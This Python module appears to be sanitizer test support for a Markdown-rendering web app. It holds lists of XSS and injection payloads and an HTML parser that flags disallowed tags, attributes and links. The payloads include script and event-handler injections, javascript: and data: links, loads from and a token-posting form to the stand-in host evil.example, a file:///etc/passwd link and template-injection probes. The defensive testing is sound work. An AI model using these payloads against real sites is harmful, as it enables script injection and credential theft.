"""Texts that would like to run in a reader's browser, call home, or break out; and a look at what a page is made of."""

from __future__ import annotations

from html.parser import HTMLParser

ELSEWHERE = "evil.example"
MARKDOWN = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=token><button>Log in</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](https://ok.example "onmouseover=alert(1) x=\\"")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](<https://ok.example/><script>alert(1)</script>)",
    "[x](//evil.example/x)",
    "[x](/web/logout)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](x "\\" onerror=\\"alert(1)")',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    '```html" onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
    "```html\n<script>alert(1)</script><img src=https://evil.example/x>\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "[[<img src=x onerror=alert(1)>]]",
    '[["onmouseover="alert(1)|<script>alert(1)</script>]]',
    "[[javascript:alert(1)]]",
    '[[Good#"><script>alert(1)</script>]]',
    "# <script>alert(1)</script>",
    '# x" onmouseover="alert(1)',
    "| <script>alert(1)</script> | x |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n\n- <svg onload=alert(1)>\n- [ ] <img src=x onerror=alert(1)>",
    "</div></article></main><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} {{ config }} {{ ''.__class__.__mro__ }}",
    "\u202e<script>alert(1)</script>\u202c \x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<xss id=main style=x:expression(alert(1))>",
]
TITLES = [
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}<svg onload=alert(1)>",
    "\u202eevil\u202c <img src=https://evil.example/x onerror=alert(1)>",
]
# all that pages consist of; `img` is ours alone: the icon
TAGS = set(
    """html head meta title link script body header div img form input nav main footer span button p kbd ul ol li svg
    rect h1 h2 h3 h4 h5 h6 section time dl dt dd details summary article aside a pre code em strong s blockquote hr br
    mark table thead tbody tr th td label select option""".split()
)
ATTRIBUTES = set(
    """lang data-theme data-beat charset name content rel href type src defer class action role value placeholder
    aria-label aria-keyshortcuts aria-current aria-pressed aria-describedby aria-hidden autocomplete autofocus id
    tabindex method dir title datetime viewbox width height x y rx data-list open hidden scope size selected required
    start alt""".split()
)


class Look(HTMLParser):
    """Notes what a page consists of, and what in it might run or load something."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.bad: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.bad += [f"<{tag}>"] * (tag not in TAGS)
        for name, value in attrs:
            told = (value or "").strip()
            loads = name in ("src", "action") or (name == "href" and tag != "a")
            leads = name == "href" and tag == "a"
            wrong = name not in ATTRIBUTES or (loads and not told.startswith("/web/"))
            if wrong or (leads and not told.startswith(("/web", "#", "http://", "https://", "mailto:"))):
                self.bad.append(f"{tag} {name}={told}")
            self.links += [told] * leads

    def handle_data(self, data: str) -> None:
        self.text += data
